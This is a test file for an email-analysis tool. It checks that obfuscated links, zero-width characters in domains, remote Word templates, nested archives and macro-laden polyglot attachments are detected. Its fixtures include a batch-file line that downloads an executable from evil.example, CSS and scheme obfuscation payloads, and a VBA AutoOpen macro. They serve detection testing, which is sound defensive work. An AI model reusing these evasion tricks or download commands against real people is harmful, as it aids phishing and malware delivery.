import { describe, expect, test } from 'vitest';
import { analyzeMail } from '../../../core/mail/analyze-mail.ts';
import { detectType } from '../../../core/mail/file-type.ts';
import { base64, bytesOf, join, multipart, withAttachment } from './mail-builder.ts';
import { zipOf } from './archive/zip-builder.ts';
import { compoundFile } from './attachment/compound-builder.ts';
import { vbaStorage } from './attachment/vba-builder.ts';

/* Ways in which attackers keep what they send out of sight of programs. */

const html = (page: string): Uint8Array =>
  bytesOf(`From: a@b.example\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${page}`);

const hostsOf = async (mail: Uint8Array): Promise<string[]> =>
  (await analyzeMail(mail)).indicators.filter(({ type }) => type === 'domain').map(({ value }) => value);

describe('addresses of a page', () => {
  test.each<[string, string]>([
    ['a control character in front', '<a href=" \u0001https://evil.example/">x</a>'],
    ['a script whose scheme is broken up', '<a href="java\tscript:location=\'https://evil.example/\'">x</a>'],
    ['escapes in a style', '<div style="background:u\\72l(https://evil.example/a)">x</div>'],
    ['long escapes in a style', '<div style="background:u\\000072 l(https://evil.example/a)">x</div>'],
    ['a form of AMP', '<form method="post" action-xhr="https://evil.example/a"><input name="p"></form>'],
    ['base64 in a path', `<a href="/r/${Buffer.from('https://evil.example/a').toString('base64url')}">x</a>`],
  ])('%s', async (_, page) => {
    expect(await hostsOf(html(page.replace('"/r/', '"https://r.example/r/')))).toContain('evil.example');
  });

  test('a style with other escapes stays what it is', async () => {
    expect(await hostsOf(html('<p style="font-family:\\30e1 \\30a4;background:url(https://b.example/\\61)">'))).toEqual(
      ['b.example'],
    );
  });
});

test('characters without a shape do not cut a name short', async () => {
  const mail = bytesOf(
    'From: a@b.example\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nhttps://ev\u200bil.exam\u00adple/a です\r\n',
  );
  const { links } = await analyzeMail(mail);
  expect(links.map(({ href, host }) => [href, host])).toEqual([['https://ev\u200bil.exam\u00adple/a', 'evil.example']]);
});

test('such a character between a name and its path', async () => {
  const mail = bytesOf(
    'From: a@b.example\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nhttps://evil.example\u200b/a です。https://c.example\u200bと\r\n',
  );
  const { links } = await analyzeMail(mail);
  expect(links.map(({ href, host }) => [href, host])).toEqual([
    ['https://evil.example\u200b/a', 'evil.example'],
    ['https://c.example', 'c.example'],
  ]);
});

test('a batch file behind the mark of UTF-16 is read as what the command line runs', async () => {
  const script = '&cls\r\n@echo off\r\ncurl https://evil.example/a.exe -o a.exe\r\n';
  expect(await hostsOf(withAttachment('a.bat', join(Uint8Array.of(0xff, 0xfe), script)))).toEqual(['evil.example']);
  const wide = Buffer.from(`\ufeff${script}`, 'utf16le');
  expect(await hostsOf(withAttachment('a.bat', new Uint8Array(wide)))).toEqual(['evil.example']);
});

test('a picture of tags under its document type is one', () => {
  expect(detectType(bytesOf('<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x"><svg/>'))).toBe('image/svg+xml');
  expect(detectType(bytesOf('<!-- drawn --> <svg/>'))).toBe('image/svg+xml');
});

test('a share that is written with slashes', async () => {
  const template =
    '<Relationships><Relationship Id="a" Type="x/attachedTemplate" Target="//198.51.100.7/a.dotm" TargetMode="External"/></Relationships>';
  const document = zipOf([
    { name: '[Content_Types].xml', content: '<Types/>' },
    { name: 'word/document.xml', content: '<w:document/>' },
    { name: 'word/_rels/settings.xml.rels', content: template },
  ]);
  const { indicators } = await analyzeMail(withAttachment('a.docx', document));
  expect(indicators).toContainEqual({
    family: 'communication',
    type: 'ipv4',
    value: '198.51.100.7',
    where: 'attachment a.docx (remote-template)',
  });
});

test('a page with eight million characters of base64 in one run is read to its end', async () => {
  const page = `<html><script>var a="${'QUFB'.repeat(2_500_000)}"</script>`;
  const { attachments } = await analyzeMail(withAttachment('a.html', bytesOf(page)));
  expect(attachments[0]?.detectedType).toBe('text/html');
});

describe('a mail that came within an archive', () => {
  const program = join('MZ', new Uint8Array(300));
  const inner = multipart('From: a@b.example\r\nTo: c@d.example\r\nSubject: x\r\n', [
    {
      head: 'Content-Type: text/html; charset=iso-2022-jp\r\n',
      body: '<a href="https://evil.example/a">\u001b$B8+$k\u001b(B</a>',
    },
    {
      head: 'Content-Type: application/pdf; name="a.pdf"\r\nContent-Transfer-Encoding: base64\r\n',
      body: base64(zipOf([{ name: 'invoice.pdf.exe', content: program }])),
    },
  ]);

  test.each(['mail.eml', 'mail.txt'])('is looked into as well: %s', async (name) => {
    const mail = withAttachment('a.zip', zipOf([{ name, content: inner }]));
    const { attachments, indicators, signs } = await analyzeMail(mail);
    expect(attachments[0]?.entries?.map((entry) => entry.name)).toEqual([name]);
    expect(indicators.map(({ value }) => value)).toContain('https://evil.example/a');
    expect(signs.map(({ evidence }) => evidence).join('\n')).toContain(`a.zip / ${name} / a.pdf / invoice.pdf.exe`);
  });

  test('in mails within archives without end, the limit is told', async () => {
    let packed = zipOf([{ name: 'a.exe', content: program }]);
    for (let depth = 0; depth < 6; depth += 1)
      packed = zipOf([{ name: 'm.eml', content: withAttachment(`${depth}.zip`, packed) }]);
    const { warnings } = await analyzeMail(withAttachment('a.zip', packed));
    expect(warnings.map(({ code }) => code)).toContain('attachment-partly-read');
  });

  test('what is no mail under such a name changes nothing', async () => {
    const { attachments, warnings } = await analyzeMail(
      withAttachment('a.zip', zipOf([{ name: 'm.eml', content: new Uint8Array(100).fill(1) }])),
    );
    expect(attachments[0]?.entries).toEqual([{ name: 'm.eml', size: 100, encrypted: false }]);
    expect(warnings.map(({ code }) => code)).toEqual(['no-date']);
  });
});

test('a web archive with macros behind the head of a PDF is read as Word would', async () => {
  const macros = compoundFile([
    { name: 'Macros', children: [vbaStorage([{ name: 'M', source: 'Sub AutoOpen()\r\nShell "calc"\r\nEnd Sub' }])] },
  ]);
  const archive =
    '%PDF-1.7\r\n1 0 obj\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="q"\r\n\r\n--q\r\n' +
    `Content-Type: application/x-mso\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64(macros)}\r\n--q--\r\n`;
  const { attachments, signs } = await analyzeMail(withAttachment('a.doc', bytesOf(archive)));
  expect(attachments[0]?.detectedType).toBe('application/pdf');
  expect(signs.map(({ id }) => id)).toEqual(expect.arrayContaining(['attachment.disguise', 'attachment.macro']));
});
